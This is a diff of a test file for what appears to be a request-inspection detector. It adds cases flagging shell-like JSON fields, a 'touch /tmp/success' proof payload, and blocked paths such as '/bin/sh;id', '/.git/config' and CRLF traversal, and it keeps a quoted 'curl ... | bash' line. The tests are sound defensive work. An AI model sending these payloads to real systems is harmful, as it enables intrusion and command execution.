@@ -99,6 +99,7 @@ describe('a container or a job is not started', () => {
 
   test('a word of a list counts only behind the option of a shell', () => {
     assert.deepEqual(ofJson({ fields: ['-c', 'id'] }), ['rce/shell-look'])
+    assert.deepEqual(rulesOf('application/json', '{"fields":["\\u002dc","id"]}'), ['rce/shell-look'])
     for (const fields of [
       ['id', 'name'],
       ['-c', 'name', 'id'],
@@ -109,6 +110,12 @@ describe('a container or a job is not started', () => {
       assert.deepEqual(ofJson({ fields }), [], JSON.stringify(fields))
   })
 
+  test('a file is left as a proof where no document has one', () => {
+    assert.deepEqual(ofJson({ payload: 'touch /tmp/success' }), ['rce/proof-file'])
+    assert.deepEqual(ofJson({ lifecycle: { exec: { command: ['touch /tmp/ready'] } } }), [])
+    assert.deepEqual(ofJson({ note: 'touch /tmp/success' }), [])
+  })
+
   test('people may write of it', () => {
     for (const comment of [
       'I found curl http://198.51.100.7/x | bash in my crontab',
@@ -116,4 +123,12 @@ describe('a container or a job is not started', () => {
     ])
       assert.deepEqual(ofJson({ comment }), [], comment)
   })
+})
+
+test('what stands behind the host of a target in absolute form is read as a path', () => {
+  const verdictOf = (target: string): string => inspect({ method: 'GET', target, headers: [] }).verdict
+  assert.equal(verdictOf('http://shop.example/bin/sh;id'), verdictOf('/bin/sh;id'))
+  assert.equal(verdictOf('http://shop.example/.git/config'), 'block')
+  assert.equal(verdictOf('http://shop.example/.%0d./.%0d./.%0d./bin/sh'), 'block')
+  assert.equal(verdictOf('http://shop.example/products/12'), 'pass')
 })
